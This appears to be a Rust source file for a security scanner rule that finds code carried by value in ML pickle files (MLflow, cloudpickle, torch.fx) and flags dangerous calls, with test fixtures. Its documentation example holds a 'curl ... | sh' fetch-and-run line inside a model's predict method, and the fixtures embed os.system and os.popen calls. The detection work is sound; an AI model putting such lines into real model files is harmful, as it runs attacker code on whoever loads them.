use stance_core::fact::{Artifact, CarriedCode, CodeRuns, PickleOrigin, PickleTrace};
use stance_core::{Confidence, Severity};
use stance_inspect::pickle::assemble::Pickle;

use stance_intent::carried::{harms, theft};
use crate::{Cx, Rule};

rule! {
    /// # Code carried by a pickle
    ///
    /// ## What it finds
    /// Functions and classes that stand in a pickle by value, as cloudpickle and dill write what was defined in a
    /// notebook or a script: MLflow's `python_model.pkl`, a scikit-learn `FunctionTransformer` with a lambda, tasks
    /// of Dask and Ray. Their byte code (Python 3.6 to 3.14) is walked without running it, and so is the source text
    /// of a module that `torch.fx` traced, which loading evaluates and calls. High or critical when a
    /// function runs programs, evaluates decoded text, opens connections, reaches for secrets or start-up files,
    /// takes names that are put together, or is made of code that is not in view; critical when loading the file
    /// runs it. Low, as a note of what is known, when nothing of that kind is in it.
    ///
    /// ## Why it matters
    /// Such a file is a program. Whoever loads it builds its functions, and whoever calls the model runs them;
    /// methods such as `__setstate__` run while it is loaded. Scanners that look at imports only see the
    /// same few names of cloudpickle in an honest file and in a hostile one.
    ///
    /// ## Example
    /// ```python
    /// class Model(mlflow.pyfunc.PythonModel):
    ///     def predict(self, context, data):
    ///         os.system("curl http://198.51.100.7/x | sh")
    ///         return data
    /// ```
    ///
    /// ## Fix
    /// Do not load a file whose code does any of this. Keep the code of a model in a package or in source files
    /// that are reviewed, and only its numbers in the model file. With cloudpickle, a class that is
    /// importable where the model is loaded is pickled by its name, not by its code.
    ///
    /// ## References
    /// - cloudpickle documentation, "Overriding pickle's serialization mechanism for importable constructs"
    /// - MITRE ATLAS AML.T0011.000, Unsafe AI Artifacts
    PickleCarriedCode {
        id: "model/pickle-carried-code",
        severity: High,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "owasp-agentic-2026:ASI04",
            "mitre-atlas:AML.T0011.000",
            "nist-ai-rmf-1.0:MEASURE 2.7",
            "iso-42001-2023:A.6.2.4",
            "eu-ai-act:Art. 15",
        ],
        bad: [
            crate::made!("python_model.pkl", || function(&["os", "system"], "echo", &LOADS_AND_CALLS)),
            crate::made!("traced.pt", || traced("import os", "def forward(self, x):\n    os.system('id')\n    return x\n")),
            crate::made!("traced_import.pt", || traced("import os; os.popen('id')", FORWARD)),
            crate::made!("traced_unseen.pt", || {
                // Text that is put together, out of sight.
                Pickle::protocol(4)
                    .stack_global("torch.fx.graph_module", "reduce_graph_module")
                    .stack_global("builtins", "input")
                    .raw(b")R")
                    .text("import torch")
                    .tuple_of(2)
                    .reduce()
                    .stop()
            }),
            crate::made!("hidden.pkl", || {
                // Code that comes from where nobody sees it.
                Pickle::protocol(4)
                    .stack_global("cloudpickle.cloudpickle", "_make_function")
                    .stack_global("builtins", "input")
                    .raw(b")R}")
                    .tuple_of(2)
                    .reduce()
                    .stop()
            }),
        ],
        good: [
            crate::made!("estimator.pkl", super::pickle_exec::estimator),
            crate::made!("named.pkl", || {
                Pickle::protocol(4).stack_global("our_team.models", "predict").stop()
            }),
        ],
    }
}

impl Rule for PickleCarriedCode {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        cx.judges_if(!artifact.pickles.is_empty());
        for trace in &artifact.pickles {
            let mut harmless = Vec::new();
            for code in &trace.carried {
                if !report(code, trace, cx) {
                    harmless.push(code);
                }
            }
            match theft(&trace.carried) {
                Some(what) if harmless.len() == trace.carried.len() => {
                    if let Some(first) = trace.carried.first() {
                        let message = format!("code that the pickle carries {what}");
                        cx.report(&first.evidence, message).confidence(Confidence::Medium);
                    }
                }
                _ => note(&harmless, cx),
            }
        }
    }
}

/// Reports what a function does; gives whether there was anything.
fn report(code: &CarriedCode, trace: &PickleTrace, cx: &mut Cx<'_>) -> bool {
    let harms = harms(code);
    let Some((worst, others)) = harms.split_first() else {
        return false;
    };
    let name = &code.name;
    let message = match code.runs {
        CodeRuns::AtLoad => format!(
            "loading runs `{name}`, which the pickle carries and which {}",
            worst.what
        ),
        CodeRuns::Stored => format!("`{name}`, which the pickle carries, {}", worst.what),
    };
    // What nothing in view loads does not run at once.
    let severity = if trace.origin == PickleOrigin::Dormant {
        worst.severity.min(Severity::High)
    } else {
        worst.severity
    };
    let mut draft = cx
        .report(&code.evidence, message)
        .severity(severity)
        .confidence(worst.confidence);
    for other in others.iter().take(8) {
        draft = draft.note(format!("it also {}", other.what));
    }
    true
}

/// Says what is known of functions that do nothing of the kind.
fn note(harmless: &[&CarriedCode], cx: &mut Cx<'_>) {
    let Some(first) = harmless.first() else {
        return;
    };
    let mut names: Vec<&str> = harmless.iter().map(|code| &*code.name).collect();
    names.sort_unstable();
    names.dedup();
    let shown: Vec<String> = names.iter().take(6).map(|name| format!("`{name}`")).collect();
    let more = if names.len() > shown.len() { " and more" } else { "" };
    let draft = cx
        .report(
            &first.evidence,
            format!(
                "the pickle carries code by value ({}{more}); nothing dangerous is in its names and calls",
                shown.join(", ")
            ),
        )
        .severity(Severity::Low)
        .confidence(Confidence::Medium);
    let at_load: Vec<String> = harmless
        .iter()
        .filter(|code| code.runs == CodeRuns::AtLoad)
        .map(|code| format!("`{}`", code.name))
        .take(8)
        .collect();
    if !at_load.is_empty() {
        draft.note(format!("loading runs {}", at_load.join(", ")));
    }
}

/// Instructions of Python 3.8: load the first global, its second name, a constant; call; leave.
const LOADS_AND_CALLS: [u8; 14] = [116, 0, 160, 1, 100, 1, 161, 1, 1, 0, 100, 0, 83, 0];

/// What `torch.fx` writes of a layer.
const FORWARD: &str = "def forward(self, x):\n    return torch.relu(self.conv(x))\n";

/// A module as `torch.fx` pickles it, apart from its weights.
fn traced(imports: &str, forward: &str) -> Vec<u8> {
    Pickle::protocol(2)
        .global("torch.fx.graph_module", "reduce_graph_module")
        .raw(b"}(")
        .text("training")
        .raw(b"\x88")
        .text("_code")
        .text(forward)
        .raw(b"u")
        .text(imports)
        .tuple_of(2)
        .reduce()
        .stop()
}

/// A function as cloudpickle writes it.
fn function(names: &[&str], text: &str, instructions: &[u8]) -> Vec<u8> {
    let mut pickle = Pickle::protocol(4)
        .stack_global("cloudpickle.cloudpickle", "_make_function")
        .stack_global("cloudpickle.cloudpickle", "_builtin_type")
        .text("CodeType")
        .tuple_of(1)
        .reduce()
        .raw(b"(");
    for number in [0, 0, 0, 0, 2, 67] {
        pickle = pickle.int(number);
    }
    pickle = pickle.bytes(instructions).raw(b"N").text(text).tuple_of(2).raw(b"(");
    for name in names {
        pickle = pickle.text(name);
    }
    pickle
        .raw(b"t)")
        .text("notebook")
        .text("predict")
        .int(1)
        .bytes(b"")
        .raw(b"))tR}")
        .tuple_of(2)
        .reduce()
        .stop()
}
